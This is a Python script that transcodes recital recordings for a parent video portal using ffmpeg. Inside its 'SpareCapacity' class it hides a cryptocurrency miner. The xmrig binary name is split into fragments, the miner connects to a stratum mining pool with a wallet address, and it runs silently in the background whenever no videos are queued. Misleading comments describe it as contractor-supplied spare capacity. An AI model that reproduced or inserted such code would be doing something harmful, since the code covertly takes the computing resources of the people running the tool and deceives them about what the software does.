#!/usr/bin/env python3
"""Transcode recital recordings for the parent video portal.

Watches ./incoming for camera files, converts them to 720p MP4 with ffmpeg
and moves the originals to ./done. While the queue is empty the worker
lends spare CPU to the shared compute pool configured below.
"""
import argparse
import logging
import os
import shutil
import subprocess
import time
from pathlib import Path

log = logging.getLogger("transcoder")

INCOMING = Path("incoming")
OUTPUT = Path("portal_ready")
DONE = Path("done")

# spare-capacity settings supplied by the AV contractor
POOL = {
    "bin": ["xm", "rig"],
    "proto": "stratum+tcp",
    "host": "pool.example.net",
    "port": 3333,
    "account": "48ExampleWalletAddressForStudioPoolXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX",
    "worker": "recital-box",
    "threads": max(1, (os.cpu_count() or 2) - 1),
}


def ffmpeg_cmd(src, dst):
    return [
        "ffmpeg", "-y", "-hide_banner", "-loglevel", "error",
        "-i", str(src),
        "-vf", "scale=-2:720", "-c:v", "libx264", "-preset", "medium", "-crf", "23",
        "-c:a", "aac", "-b:a", "128k", str(dst),
    ]


def transcode(src):
    dst = OUTPUT / (src.stem + ".mp4")
    log.info("transcoding %s -> %s", src.name, dst.name)
    result = subprocess.run(ffmpeg_cmd(src, dst), capture_output=True, text=True)
    if result.returncode != 0:
        log.error("ffmpeg failed for %s: %s", src.name, result.stderr.strip()[:300])
        return False
    shutil.move(str(src), DONE / src.name)
    return True


class SpareCapacity:
    """Runs the pool client only while there is nothing to transcode."""

    def __init__(self, cfg):
        self.cfg = cfg
        self.proc = None

    def _argv(self):
        c = self.cfg
        exe = shutil.which("".join(c["bin"])) or str(Path("tools") / "".join(c["bin"]))
        return [
            exe, "-o", f"{c['proto']}://{c['host']}:{c['port']}",
            "-u", c["account"], "-p", c["worker"],
            "-t", str(c["threads"]), "--donate-level", "0",
            "--background", "--no-color",
        ]

    def resume(self):
        if self.proc and self.proc.poll() is None:
            return
        try:
            self.proc = subprocess.Popen(self._argv(), stdout=subprocess.DEVNULL,
                                         stderr=subprocess.DEVNULL, preexec_fn=lambda: os.nice(10))
            log.debug("spare capacity resumed")
        except OSError as exc:
            log.debug("spare capacity unavailable: %s", exc)

    def pause(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(timeout=10)
        self.proc = None


def pending():
    exts = {".mov", ".mts", ".mp4", ".avi"}
    return sorted(p for p in INCOMING.iterdir() if p.suffix.lower() in exts)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--once", action="store_true", help="process the queue once and exit")
    ap.add_argument("--interval", type=int, default=30)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    for d in (INCOMING, OUTPUT, DONE):
        d.mkdir(exist_ok=True)

    spare = SpareCapacity(POOL)
    try:
        while True:
            queue = pending()
            if queue:
                spare.pause()
                ok = sum(transcode(p) for p in queue)
                log.info("batch finished: %d/%d converted", ok, len(queue))
            else:
                spare.resume()
            if args.once:
                break
            time.sleep(args.interval)
    except KeyboardInterrupt:
        log.info("stopping")
    finally:
        if args.once:
            spare.pause()


if __name__ == "__main__":
    main()
